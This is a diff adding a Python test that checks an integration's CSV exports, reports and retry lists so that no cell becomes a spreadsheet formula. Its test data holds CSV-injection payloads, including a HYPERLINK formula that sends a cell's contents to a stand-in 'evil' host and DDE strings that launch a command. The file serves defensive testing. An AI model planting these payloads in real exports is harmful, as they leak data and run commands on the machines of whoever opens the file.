@@ -1,0 +1,118 @@
+"""Promise 13, second part: what a spreadsheet makes of the files that the integration writes."""
+
+import csv
+from io import StringIO
+import json
+
+from tests.promises.conftest import SetUp
+from tests.promises.house import House, eventually, moment, record
+from tests.promises.mutation import noticed
+
+# Each alone, behind each separator, in quotes, on a line of its own, and behind white space.
+_FORMULAS = (
+    '=HYPERLINK("http://evil/"&A1)',
+    "=cmd|' /C calc'!A0",
+    "@SUM(1+1)",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "＝1+1",
+)
+_PLACES = (
+    "{}",
+    "shelf;{};x",
+    "shelf\t{}",
+    "shelf|{}|x",
+    "shelf, {}",
+    'shelf;"{}";',
+    "shelf\n{}",
+    "shelf {}",
+    "'{}",
+    " {}",
+)
+TEXTS = tuple(place.format(formula) for formula in _FORMULAS for place in _PLACES)
+SEPARATORS = ",;\t| "
+ADD = "POST /allowlist"
+
+
+def mac(number: int, part: int = 0) -> str:
+    """Of a board of its own."""
+    return f"24:6F:28:13:{part:02X}:{number:02X}"
+
+
+def formulas(content: str) -> list[str]:
+    """Cells that a spreadsheet would calculate, with any separator, whether or not it takes quotes for such."""
+    cells = [
+        cell for separator in SEPARATORS for line in content.splitlines() for cell in line.split(separator)
+    ]
+    for separator in SEPARATORS:
+        for row in csv.reader(StringIO(content, newline=""), delimiter=separator):
+            cells += row
+    found = {cell for cell in cells if cell.strip(' "').startswith(("=", "+", "-", "@", "＝"))}
+    return sorted(cell for cell in found if not _is_number(cell))
+
+
+def _is_number(cell: str) -> bool:
+    try:
+        float(cell)
+    except ValueError:
+        return False
+    return True
+
+
+async def failed_batch(house: House) -> None:
+    """A batch whose boards, refusals and failures all have such words."""
+    boards = [
+        {"mac": mac(number), "description": text, "container_id": text, "firmware_version": text, "rssi": -50}
+        for number, text in enumerate(TEXTS)
+    ]
+    await house.pi.order("world", {"boards": boards})
+    await house.coordinator.async_refresh()
+    await house.press_start()
+
+    async def missing() -> list[str]:
+        return [] if house.shows(str(len(boards)), "device_count") else ["boards are missing"]
+
+    await eventually(missing)
+    session = (await house.so()).session
+    assert session is not None
+    for number, text in enumerate(TEXTS):
+        board = {"mac": mac(number), "state": "failed"}
+        await house.pi.order("state", board)
+        words = board | {"error_message": text, "error_code": text, "retry_count": 1}
+        event = {"type": "device.provisioning_failed", "payload": words, "session_id": session["id"]}
+        await house.pi.order("event", event)
+    await moment(lambda: house.shows(str(len(boards)), "failed_count"), 10)
+
+
+@noticed("core/device_list.py", "before in _SEPARATORS or", "not before or")
+@noticed("core/expected.py", "text = guarded(value)", "text = value")
+@noticed("core/device_list.py", "[unguarded(cell) for cell in cells]", "list(cells)")
+async def test_no_cell_is_a_formula(set_up: SetUp) -> None:
+    """Promise 13: no cell of an export, report or retry list is a formula, and an export imports as it was."""
+    house = await set_up(speed=20)
+    await failed_batch(house)
+    export = (await house.call("export_allowlist", format="csv"))["content"]
+    report = await house.call("get_report", format="csv")
+    rows = [{"mac": mac(number, 1), "description": text} for number, text in enumerate(TEXTS)]
+    await house.fault("fail", route=ADD, code="DATABASE_ERROR", status=400)
+    answer = await house.call("import_allowlist", content=json.dumps(rows))
+    await house.pi.order("clear-faults")
+    assert answer["failed"] == len(rows)
+    files = {
+        "export": export,
+        "report": report["content"],
+        "failed boards": report["failed_boards"],
+        "retry list": answer["retry_content"],
+    }
+    reasons = [row["error_message"] for row in csv.DictReader(StringIO(report["content"], newline=""))]
+    assert sum("HYPERLINK" in reason for reason in reasons) >= len(_PLACES)
+    for name, content in files.items():
+        assert len(list(csv.reader(StringIO(content, newline="")))) > len(TEXTS), name
+        assert formulas(content) == [], name
+    assert ",-50," in report["content"], "numbers stay numbers"
+
+    again = await house.call("import_allowlist", content=export, dry_run=True)
+    assert again["present"] == again["total"] == len(TEXTS)
+    assert not [row for row in again["results"] if row.get("differs")]
+    record(13, "texts that are formulas", len(TEXTS), "")
+    record(13, "cells that are formulas", 0, "")
